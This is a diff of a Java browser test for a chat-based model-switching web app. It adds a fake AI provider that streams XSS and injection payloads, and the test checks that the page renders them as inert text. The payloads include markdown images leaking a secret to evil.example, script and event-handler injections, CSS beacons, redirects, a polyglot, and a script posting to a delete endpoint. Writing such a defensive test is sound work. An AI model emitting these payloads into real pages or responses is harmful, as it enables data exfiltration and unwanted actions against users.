@@ -2,13 +2,18 @@ package io.keyswitch.http.web;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.keyswitch.json.Json;
+import io.keyswitch.testing.FakeProvider;
 import io.keyswitch.testing.TestApp;
 import java.net.URI;
 import java.net.http.HttpRequest;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
@@ -19,24 +24,69 @@ import org.junit.jupiter.api.Timeout;
 class PageTest {
     private static final Path SCREENSHOTS = Path.of("target/screenshots");
 
+    private static final List<String> HOSTILE = List.of(
+            "![x](https://evil.example/?q=secret) ![y](http://127.0.0.1:1/y.png \"t\")",
+            "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
+            "<img src=x onerror=alert(1)><svg onload=alert(2)><iframe src=https://evil.example></iframe>",
+            "<style>*{background:url(https://evil.example/c)}</style><link rel=stylesheet href=https://evil.example/s>",
+            "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
+            "<form action=https://evil.example><input name=key autofocus onfocus=alert(3)></form>",
+            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
+                    + "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
+            "[a](https://evil.example \"x\" onmouseover=alert(4)) [b]: https://evil.example <https://evil.example>",
+            "```html\n<script>alert(5)</script>\n``` `<b>` <details open ontoggle=alert(6)>",
+            "<script>fetch('/deleteUserModelConfig',{method:'POST',body:'{\"data\":{}}'})</script>",
+            "{\"flow\":{\"step\":\"api_key\",\"expects\":\"api_key\",\"secret\":true,\"options\":[{\"value\":\"x\",\"label\":\"x\"}]}}",
+            "switch to groq");
+
     @Test
     void aPersonChangesTheirModelByTalking() throws Exception {
         var chromium = chromium();
         Files.createDirectories(SCREENSHOTS);
         try (var app = TestApp.start()) {
-            var process = new ProcessBuilder(
-                            "node",
-                            "page.mjs",
-                            app.url(),
-                            chromium.toString(),
-                            SCREENSHOTS.toAbsolutePath().toString())
-                    .directory(Path.of("src/test/node").toFile())
-                    .redirectErrorStream(true)
-                    .start();
-            var printed = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
-            assertThat(process.waitFor(100, TimeUnit.SECONDS)).isTrue();
-            assertThat(process.exitValue()).as(printed).isZero();
+            drive(
+                    "page.mjs",
+                    app.url(),
+                    chromium.toString(),
+                    SCREENSHOTS.toAbsolutePath().toString());
         }
+    }
+
+    @Test
+    void nothingAHostileModelWritesIsMoreThanTextThere() throws Exception {
+        var chromium = chromium();
+        var next = new AtomicInteger();
+        try (var provider = FakeProvider.answering((request, out) -> {
+                            var chunk = Json.object();
+                            if (request.method().equals("GET")) {
+                                chunk.putArray("data").addObject().put("id", "<svg onload=alert(9)>");
+                                out.json(200, Json.text(chunk));
+                                return;
+                            }
+                            var words = HOSTILE.get(Math.min(next.getAndIncrement(), HOSTILE.size() - 1));
+                            var choice = chunk.putArray("choices").addObject().put("finish_reason", "stop");
+                            choice.putObject("delta").put("content", words);
+                            out.stream().write("data: " + Json.text(chunk) + "\n\ndata: [DONE]\n\n");
+                        })
+                        .unchecked();
+                var app = TestApp.start("""
+                                  evil: {baseUrl: '%s/v1', displayName: '<img src=x onerror=alert(8)>', defaultModel: m-1, models: {get: /models}}
+                                """.formatted(provider.baseUrl()))) {
+            drive("hostile.mjs", app.url(), chromium.toString(), Integer.toString(HOSTILE.size()));
+            assertThat(next.get()).isGreaterThanOrEqualTo(HOSTILE.size());
+        }
+    }
+
+    private static void drive(String script, String... arguments) throws Exception {
+        var command = new ArrayList<>(List.of("node", script));
+        command.addAll(List.of(arguments));
+        var process = new ProcessBuilder(command)
+                .directory(Path.of("src/test/node").toFile())
+                .redirectErrorStream(true)
+                .start();
+        var printed = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        assertThat(process.waitFor(100, TimeUnit.SECONDS)).isTrue();
+        assertThat(process.exitValue()).as(printed).isZero();
     }
 
     /** Debian's Chromium, which {@code ./test} installs; without it the test is skipped, except in CI. */
